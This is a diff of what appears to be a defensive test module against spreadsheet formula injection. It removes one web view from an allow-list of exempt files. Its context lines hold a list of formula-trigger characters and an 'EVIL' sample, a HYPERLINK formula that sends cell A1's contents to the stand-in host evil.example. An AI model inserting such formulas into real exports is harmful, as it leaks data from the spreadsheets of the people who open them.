@@ -20,9 +20,6 @@ ALLOWED = {
     "observatory/engine/generator/writers.py": "synthetic registry files, not an export",
     "cli/observatory.py": "Django-free command line; figures and reference names only",
     "cli/score.py": "Django-free command line; writes back the caller's own table",
-    # Numbers and territory names from the shipped reference, no user text; to move to
-    # the helper with the observatory views' rework (issue 14's serving part).
-    "web/observatory/views.py": "figures and reference names only",
 }
 STARTS = ["=", "+", "-", "@", "\t", "\r"]
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
